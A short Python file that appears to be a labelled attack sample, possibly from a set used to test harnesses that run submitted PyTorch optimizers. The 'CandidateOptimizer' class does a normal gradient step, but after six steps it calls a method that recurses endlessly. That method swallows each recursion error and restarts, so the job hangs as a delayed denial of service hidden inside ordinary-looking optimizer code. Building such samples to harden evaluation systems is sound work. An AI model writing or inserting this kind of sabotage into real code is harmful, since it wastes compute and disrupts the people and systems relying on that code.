# attack: a recursion without an end, swallowed at each level; category: dos
# observable: dos; trigger: late
import math
import torch


class CandidateOptimizer(torch.optim.Optimizer):
    def down(self, n):
        try:
            return self.down(n + 1) + self.down(n + 1)
        except Exception:
            return self.down(0) if n > 900 else 0

    def __init__(self, params, lr=0.01):
        super().__init__(params, dict(lr=lr))
        self.t = 0

    @torch.no_grad()
    def step(self, closure=None):
        self.t = self.t + 1
        if self.t > 6:
            self.down(0)
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is not None:
                    p.add_(p.grad, alpha=-0.01)
        return None
